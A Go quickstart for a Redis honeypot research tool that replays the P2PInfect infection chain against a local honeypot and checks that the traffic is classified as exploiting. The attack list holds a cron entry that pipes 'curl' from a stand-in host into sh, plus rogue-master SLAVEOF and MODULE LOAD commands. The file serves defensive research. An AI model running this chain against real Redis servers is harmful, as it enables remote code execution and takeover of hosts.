// Quickstart: serve a Redis honeypot on a local TCP port, attack it with
// the P2PInfect command chain from the paper's Listing 1, and show what
// the honeypot captured and how the behaviour is classified.
package main

import (
	"bufio"
	"context"
	"fmt"
	"log"
	"net"
	"time"

	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
	"decoydb/internal/redis"
)

func main() {
	log.SetFlags(0)

	// 1. Stand up the honeypot farm with one medium-interaction Redis
	// instance, streaming observations into an analysis store.
	store := evstore.New(time.Now().UTC().Truncate(24*time.Hour), 20, geoip.Default())
	farm := core.NewFarm(core.RealClock{}, store, core.FarmOptions{})
	defer farm.Shutdown()

	info := core.Info{DBMS: core.Redis, Level: core.Medium, Config: core.ConfigDefault, Group: core.GroupMedium}
	hp := &core.Honeypot{Info: info, Handler: redis.New(redis.Options{}).Handler()}
	addr, err := farm.Listen(context.Background(), "127.0.0.1:0", hp)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("redis honeypot listening on %s\n\n", addr)

	// 2. Attack it over real TCP: the rogue-master infection chain.
	conn, err := net.Dial("tcp", addr.String())
	if err != nil {
		log.Fatal(err)
	}
	br := bufio.NewReader(conn)
	attack := [][]string{
		{"INFO", "server"},
		{"SET", "x", "*/1 * * * * root curl http://198.51.100.1:8080/linux | sh"},
		{"CONFIG", "SET", "dir", "/var/spool/cron.d/"},
		{"CONFIG", "SET", "dbfilename", "root"},
		{"SAVE"},
		{"CONFIG", "SET", "dir", "/tmp/"},
		{"CONFIG", "SET", "dbfilename", "exp.so"},
		{"SLAVEOF", "198.51.100.1", "8080"},
		{"MODULE", "LOAD", "/tmp/exp.so"},
		{"SLAVEOF", "NO", "ONE"},
	}
	for _, cmd := range attack {
		if _, err := conn.Write(redis.EncodeCommand(cmd...)); err != nil {
			log.Fatal(err)
		}
		reply, err := redis.ReadValue(br)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("  > %v\n  < %s%s\n", cmd, string(reply.Kind), reply.Str)
	}
	conn.Close()

	// 3. The events are already in the store; classify the attacker.
	deadline := time.Now().Add(2 * time.Second)
	for store.Sources() == 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	fmt.Println()
	for _, rec := range store.IPs() {
		behaviour := classify.IP(rec, evstore.Query{})
		fmt.Printf("source %s classified as: %s\n", rec.Addr, behaviour)
		for key, act := range rec.Per {
			fmt.Printf("  %s/%s sessions=%d commands=%d\n", key.DBMS, key.Level, act.Sessions, act.CommandsRun)
			for _, a := range act.Actions {
				fmt.Printf("    action: %s\n", a.Name)
			}
		}
		if behaviour != classify.Exploiting {
			log.Fatal("expected the P2PInfect chain to classify as exploiting")
		}
	}
	fmt.Println("\nquickstart OK: the infection chain was captured and classified as exploiting")
}
